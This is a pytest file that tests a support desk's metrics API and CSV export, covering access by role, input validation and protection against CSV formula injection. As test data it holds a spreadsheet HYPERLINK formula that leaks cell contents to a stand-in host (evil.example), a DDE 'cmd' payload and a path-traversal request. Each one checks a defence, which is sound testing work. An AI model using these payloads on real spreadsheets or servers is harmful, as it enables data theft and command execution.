"""The desk's metrics endpoints (docs/metrics.md) against a real desk server, and the CSV export.

The server is the real `desk` channel (connectors/desk.py) in a Sanic app of its own, in a
subprocess, on a migrated SQLite database seeded with tests/metrics/seeding.py: all of
`bot run` that the metrics touch, without the trained model the whole product needs.
tests/browser/test_dashboard.py drives the console's Dashboard against the same server.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import subprocess
import sys
import time
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Dict, Iterator, List

import pytest
import requests

from bot.db import make_engine, make_session_factory
from bot.desk.agents import AgentDirectory
from bot.escalation.engine import load_default_policy
from bot.metrics.csv_export import COLUMNS, report_csv, safe_cell
from bot.metrics.kpis import MetricsQuery, compute_metrics
from bot.settings import PROJECT_ROOT, Settings
from tests.baton_server import free_port
from tests.e2e.desk_client import DeskClient, create_agent
from tests.metrics.seeding import add_conversation, add_ticket, seed_history

STARTUP_DEADLINE_SECONDS = 120
CONVERSATIONS, ESCALATED = 1000, 150
# A customer's message that a spreadsheet would run as a formula.
FORMULA_TEXT = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'


def serve(database_url: str, port: int) -> None:
    """The desk channel alone in a Sanic server; `desk_server` runs this in a subprocess."""
    from sanic import Sanic

    from connectors.desk import DeskInput

    async def no_bot(_message: Any) -> None:
        return None

    app = Sanic("baton_metrics_desk")
    app.blueprint(DeskInput(Settings(database_url=database_url)).blueprint(no_bot))
    app.run(host="127.0.0.1", port=port, access_log=False)


@contextmanager
def desk_server(database_url: str, log_path: Path) -> Iterator[str]:
    """Start `serve` on a free port; yield its URL once it answers; stop it after."""
    port = free_port()
    code = f"from tests.desk.test_metrics_api import serve; serve({database_url!r}, {port})"
    env = {**os.environ, "RASA_TELEMETRY_ENABLED": "false", "TF_CPP_MIN_LOG_LEVEL": "2"}
    with log_path.open("w") as log:
        process = subprocess.Popen(
            [sys.executable, "-c", code],
            cwd=PROJECT_ROOT,
            env=env,
            stdout=log,
            stderr=subprocess.STDOUT,
        )
    url = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + STARTUP_DEADLINE_SECONDS
        while not _answers(f"{url}/desk/api/me"):
            if process.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(
                    f"the desk server did not start; its log:\n{log_path.read_text()[-5000:]}"
                )
            time.sleep(0.2)  # polling for readiness, not timing a behaviour
        yield url
    finally:
        process.terminate()
        try:
            process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()


def _answers(url: str) -> bool:
    try:
        return requests.get(url, timeout=2).status_code == 401  # up, and nobody signed in
    except requests.RequestException:
        return False


@dataclass(frozen=True)
class SeededDesk:
    """A running desk server, its database, the seeded period and its people."""

    url: str
    database_url: str
    since: dt.datetime  # the seeded period: 1,000 conversations, 150 escalated
    until: dt.datetime
    injection_day: dt.datetime  # one conversation whose trigger is FORMULA_TEXT
    supervisor: str  # e-mail addresses (tests.e2e.desk_client.TEST_PASSWORD)
    admin: str
    agent: str

    def client(self, email: str) -> DeskClient:
        desk = DeskClient(self.url)
        assert desk.login(email).status_code == 200
        return desk


@contextmanager
def seeded_desk_server(workdir: Path) -> Iterator[SeededDesk]:
    """A desk server on a new database in `workdir`: 1,000 conversations over the two days
    that start three days ago (UTC), 150 escalated (billing and technical alternately),
    and one formula-like trigger ten days ago."""
    from bot.migrate import upgrade

    database_url = f"sqlite:///{workdir / 'baton.db'}"
    upgrade(database_url)
    engine = make_engine(database_url)
    try:
        session_factory = make_session_factory(engine)
        policy = load_default_policy()
        AgentDirectory(session_factory).sync_teams(
            (key, policy.config.team(key).name) for key in policy.config.team_keys
        )
        today = dt.datetime.now(dt.timezone.utc).replace(hour=0, minute=0, second=0, microsecond=0)
        since = today - dt.timedelta(days=3)
        seed_history(
            session_factory, start=since, days=2, conversations=CONVERSATIONS, escalated=ESCALATED
        )
        injection_day = today - dt.timedelta(days=10)
        with session_factory.begin() as session:
            conversation = add_conversation(
                session, "formula-customer", injection_day + dt.timedelta(hours=9)
            )
            add_ticket(
                session,
                conversation,
                injection_day + dt.timedelta(hours=9, minutes=2),
                reference="CS-FORMUL",
                trigger_intent="nlu_fallback",
                trigger_text=FORMULA_TEXT,
            )
    finally:
        engine.dispose()
    people = {
        role: create_agent(
            database_url, name=f"Metrics {role.title()}", role=role, teams=("billing",)
        ).email
        for role in ("supervisor", "admin", "agent")
    }
    with desk_server(database_url, workdir / "server.log") as url:
        yield SeededDesk(
            url=url,
            database_url=database_url,
            since=since,
            until=since + dt.timedelta(days=2),
            injection_day=injection_day,
            **people,
        )


@pytest.fixture(scope="module")
def seeded_desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SeededDesk]:
    with seeded_desk_server(tmp_path_factory.mktemp("metrics-desk")) as desk:
        yield desk


def _day(moment: dt.datetime) -> str:
    return moment.date().isoformat()


def _period(desk: SeededDesk, **extra: str) -> Dict[str, str]:
    return {"since": _day(desk.since), "until": _day(desk.until), **extra}


# --- who may see the metrics ---------------------------------------------------------------


@pytest.mark.parametrize("path", ["/desk/api/metrics", "/desk/api/metrics.csv"])
def test_the_metrics_need_a_session(seeded_desk: SeededDesk, path: str) -> None:
    answer = requests.get(f"{seeded_desk.url}{path}", timeout=30)
    assert answer.status_code == 401
    assert answer.json() == {"error": "Sign in first."}


@pytest.mark.parametrize("path", ["/metrics", "/metrics.csv"])
def test_an_agent_may_not_see_the_metrics(seeded_desk: SeededDesk, path: str) -> None:
    answer = seeded_desk.client(seeded_desk.agent).call("GET", path)
    assert answer.status_code == 403
    assert answer.json() == {"error": "Only supervisors and admins can see the metrics."}


@pytest.mark.parametrize("role", ["supervisor", "admin"])
def test_supervisors_and_admins_see_the_metrics(seeded_desk: SeededDesk, role: str) -> None:
    desk = seeded_desk.client(getattr(seeded_desk, role))
    assert desk.call("GET", "/metrics").status_code == 200
    assert desk.call("GET", "/metrics.csv").status_code == 200


# --- the JSON report ----------------------------------------------------------------------------


def test_the_report_is_the_documented_shape_with_the_seeded_numbers(
    seeded_desk: SeededDesk,
) -> None:
    desk = seeded_desk.client(seeded_desk.supervisor)
    answer = desk.http.get(
        f"{seeded_desk.url}/desk/api/metrics", params=_period(seeded_desk), timeout=60
    )
    assert answer.status_code == 200
    report = answer.json()
    assert report["period"] == {
        "since": seeded_desk.since.isoformat(),
        "until": seeded_desk.until.isoformat(),
        "team": None,
    }
    totals = report["totals"]
    assert (totals["conversations"], totals["escalated"], totals["contained"]) == (1000, 150, 850)
    assert (totals["escalation_rate"], totals["containment_rate"]) == (15.0, 85.0)
    assert [row["key"] for row in report["breakdowns"]["day"]] == [
        _day(seeded_desk.since),
        _day(seeded_desk.since + dt.timedelta(days=1)),
    ]
    assert {row["key"] for row in report["breakdowns"]["team"]} == {"billing", "technical"}
    assert {"industry": "Telecommunications", "low": 10.0, "high": 20.0} in report["references"][
        "escalation_rate"
    ]
    # The endpoint is compute_metrics, nothing added or lost on the way (JSON round trip).
    engine = make_engine(seeded_desk.database_url)
    try:
        query = MetricsQuery(since=seeded_desk.since, until=seeded_desk.until)
        direct = compute_metrics(
            make_session_factory(engine), query, dt.datetime.now(dt.timezone.utc)
        )
    finally:
        engine.dispose()
    assert report["totals"] == direct.as_dict()["totals"]
    assert report["breakdowns"] == direct.as_dict()["breakdowns"]


def test_the_team_filter_keeps_that_teams_escalations(seeded_desk: SeededDesk) -> None:
    desk = seeded_desk.client(seeded_desk.admin)
    answer = desk.http.get(
        f"{seeded_desk.url}/desk/api/metrics",
        params=_period(seeded_desk, team="billing"),
        timeout=60,
    )
    assert answer.status_code == 200
    report = answer.json()
    assert report["period"]["team"] == "billing"
    # The seeding gives every other escalation to billing: 75 of the 1,000 conversations.
    assert (report["totals"]["conversations"], report["totals"]["escalated"]) == (1000, 75)
    assert report["totals"]["escalation_rate"] == 7.5
    assert [row["key"] for row in report["breakdowns"]["team"]] == ["billing"]


def test_without_a_period_the_report_covers_the_last_seven_days(seeded_desk: SeededDesk) -> None:
    desk = seeded_desk.client(seeded_desk.supervisor)
    before = dt.datetime.now(dt.timezone.utc)
    period = desk.call("GET", "/metrics").json()["period"]
    after = dt.datetime.now(dt.timezone.utc)
    since, until = (dt.datetime.fromisoformat(period[key]) for key in ("since", "until"))
    assert before <= until <= after
    assert until - since == dt.timedelta(days=7)


@pytest.mark.parametrize(
    "params, message",
    [
        ({"since": "last week"}, "'since': 'last week' is not a moment"),
        ({"since": "7d", "until": "tomorrow"}, "'until': 'tomorrow' is not a moment"),
        (
            {"since": "2026-11-20", "until": "2026-11-10"},
            "'since' (2026-11-20T00:00:00+00:00) must be before 'until'",
        ),
        ({"since": "2026-11-20", "until": "2026-11-20"}, "must be before 'until'"),
        (
            {"since": "2025-01-01", "until": "2026-11-01"},
            "The period is 669 days; ask for at most 366 days",
        ),
        (
            {"team": "sales"},
            "Unknown team 'sales'; "
            "known teams: billing, technical, shop, customer_care, care_managers.",
        ),
    ],
)
@pytest.mark.parametrize("path", ["/metrics", "/metrics.csv"])
def test_bad_parameters_are_refused_with_what_is_wrong(
    seeded_desk: SeededDesk, path: str, params: Dict[str, str], message: str
) -> None:
    desk = seeded_desk.client(seeded_desk.supervisor)
    answer = desk.http.get(f"{seeded_desk.url}/desk/api{path}", params=params, timeout=30)
    assert answer.status_code == 400
    assert message in answer.json()["error"]


# --- the CSV download ---------------------------------------------------------------------------


def _csv_rows(text: str) -> List[Dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_download_holds_the_totals_and_every_breakdown_row(seeded_desk: SeededDesk) -> None:
    desk = seeded_desk.client(seeded_desk.supervisor)
    params = _period(seeded_desk)
    answer = desk.http.get(f"{seeded_desk.url}/desk/api/metrics.csv", params=params, timeout=60)
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == (
        f'attachment; filename="baton-metrics-{params["since"]}-{params["until"]}.csv"'
    )
    report = desk.http.get(f"{seeded_desk.url}/desk/api/metrics", params=params, timeout=60).json()
    rows = _csv_rows(answer.text)
    assert rows[0]["dimension"] == "total"
    assert (rows[0]["conversations"], rows[0]["escalated"], rows[0]["escalation_rate"]) == (
        "1000",
        "150",
        "15.0",
    )
    assert rows[0]["since"] == seeded_desk.since.isoformat()
    for dimension, breakdown in report["breakdowns"].items():
        assert [row["key"] for row in rows if row["dimension"] == dimension] == [
            row["key"] for row in breakdown
        ], dimension
    days = [row for row in rows if row["dimension"] == "day"]
    assert sum(int(row["escalated"]) for row in days) == 150
    intents = [row for row in rows if row["dimension"] == "root_cause_intent"]
    assert [(row["key"], int(row["escalated"])) for row in intents] == [
        (cause["intent"], cause["escalations"]) for cause in report["root_causes"]["intents"]
    ]


def test_a_period_that_does_not_start_at_midnight_names_its_time_in_the_file_name(
    seeded_desk: SeededDesk,
) -> None:
    desk = seeded_desk.client(seeded_desk.supervisor)
    answer = desk.http.get(
        f"{seeded_desk.url}/desk/api/metrics.csv",
        params={"since": "2026-11-01T09:30", "until": "2026-11-02"},
        timeout=60,
    )
    assert (
        answer.headers["Content-Disposition"]
        == 'attachment; filename="baton-metrics-2026-11-01T0930-2026-11-02.csv"'
    )


def test_a_customers_formula_reaches_the_csv_as_text(seeded_desk: SeededDesk) -> None:
    day = seeded_desk.injection_day
    desk = seeded_desk.client(seeded_desk.supervisor)
    params = {"since": _day(day), "until": _day(day + dt.timedelta(days=1))}
    report = desk.http.get(f"{seeded_desk.url}/desk/api/metrics", params=params, timeout=60).json()
    assert [group["text"] for group in report["root_causes"]["fallback_utterances"]] == [
        FORMULA_TEXT
    ]
    answer = desk.http.get(f"{seeded_desk.url}/desk/api/metrics.csv", params=params, timeout=60)
    (utterance,) = [
        row for row in _csv_rows(answer.text) if row["dimension"] == "fallback_utterance"
    ]
    assert utterance["key"] == "'" + FORMULA_TEXT
    assert utterance["escalated"] == "1"


# --- the console's assets and the API description ---------------------------------------------


def test_the_chart_library_is_served_to_the_console(seeded_desk: SeededDesk) -> None:
    served = requests.get(f"{seeded_desk.url}/desk/assets/vendor/chart.umd.min.js", timeout=30)
    assert served.status_code == 200
    assert served.headers["Content-Type"].startswith("application/javascript")
    assert served.text.startswith("/*!\n * Chart.js v4.")
    assert (
        requests.get(
            f"{seeded_desk.url}/desk/assets/vendor/socket.io.min.js", timeout=30
        ).status_code
        == 404
    )
    assert (
        requests.get(
            f"{seeded_desk.url}/desk/assets/vendor/..%2F..%2Fsettings.py", timeout=30
        ).status_code
        == 404
    )


def test_the_openapi_description_has_the_metrics_endpoints(seeded_desk: SeededDesk) -> None:
    paths = requests.get(f"{seeded_desk.url}/desk/api/openapi.json", timeout=30).json()["paths"]
    for path in ("/metrics", "/metrics.csv"):
        operation = paths[path]["get"]
        assert [parameter["name"] for parameter in operation["parameters"]] == [
            "since",
            "until",
            "team",
        ]
        assert {"200", "400", "401", "403"} <= set(operation["responses"])
    assert "text/csv" in paths["/metrics.csv"]["get"]["responses"]["200"]["content"]


# --- report_csv on its own ----------------------------------------------------------------------

REPORT: Dict[str, Any] = {
    "period": {
        "since": "2026-11-20T00:00:00+00:00",
        "until": "2026-11-27T00:00:00+00:00",
        "team": None,
    },
    "totals": {
        "conversations": 1000,
        "escalated": 150,
        "contained": 850,
        "escalation_rate": 15.0,
        "containment_rate": 85.0,
        "time_to_escalation": {"count": 150, "median": 95.0, "p90": 410.0},
        "first_reply": {"count": 140, "median": 60.0, "p90": 300.0},
        "resolution": {"count": 120, "median": 1800.0, "p90": 7200.0},
        "sla": {"measured": 130, "met": 117, "compliance": 90.0},
        "csat": {"answers": 80, "average": 4.2, "satisfied_rate": 82.5},
    },
    "breakdowns": {
        "reason": [
            {
                "key": "=1+1",
                "escalated": 3,
                "escalation_rate": 0.3,
                "time_to_escalation": {"count": 0, "median": None, "p90": None},
            }
        ],
        "day": [{"key": "2026-11-20", "conversations": 0, "escalated": 0, "escalation_rate": None}],
    },
    "references": {"escalation_rate": []},
    "root_causes": {
        "intents": [{"intent": "faq/returns", "escalations": 31, "examples": []}],
        "faq_misses": [],
        "fallback_utterances": [
            {"text": "@SUM(A1:A9)", "count": 2, "similar": ["-2+3"], "examples": []}
        ],
    },
}


def test_report_csv_writes_a_header_the_totals_then_the_breakdowns_and_causes() -> None:
    rows = list(csv.reader(io.StringIO(report_csv(REPORT))))
    assert rows[0] == list(COLUMNS)
    table = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [(row["dimension"], row["key"]) for row in table] == [
        ("total", ""),
        ("day", "2026-11-20"),
        ("reason", "'=1+1"),
        ("root_cause_intent", "faq/returns"),
        ("fallback_utterance", "'@SUM(A1:A9)"),
    ]
    total = table[0]
    assert (total["conversations"], total["escalation_rate"], total["containment_rate"]) == (
        "1000",
        "15.0",
        "85.0",
    )
    assert (total["first_reply_median_seconds"], total["resolution_p90_seconds"]) == (
        "60.0",
        "7200.0",
    )
    assert (total["sla_compliance"], total["csat_average"], total["csat_satisfied_rate"]) == (
        "90.0",
        "4.2",
        "82.5",
    )
    assert (total["since"], total["until"], total["team_filter"]) == (
        "2026-11-20T00:00:00+00:00",
        "2026-11-27T00:00:00+00:00",
        "",
    )
    # null and missing measures are empty cells, never "None".
    assert table[1]["escalation_rate"] == "" and table[2]["time_to_escalation_median_seconds"] == ""
    assert table[2]["conversations"] == ""
    assert "None" not in report_csv(REPORT)


@pytest.mark.parametrize(
    "text, shown",
    [
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+41 22 555 01 01", "'+41 22 555 01 01"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("my router = broken", "my router = broken"),
        ("faq/returns", "faq/returns"),
        ("", ""),
    ],
)
def test_cells_a_spreadsheet_would_run_get_a_quote(text: str, shown: str) -> None:
    assert safe_cell(text) == shown


def test_numbers_are_not_quoted_even_when_negative() -> None:
    report = {"totals": {"conversations": -1, "escalated": 0, "escalation_rate": -0.5}}
    total = list(csv.DictReader(io.StringIO(report_csv(report))))[0]
    assert (total["conversations"], total["escalated"], total["escalation_rate"]) == (
        "-1",
        "0",
        "-0.5",
    )
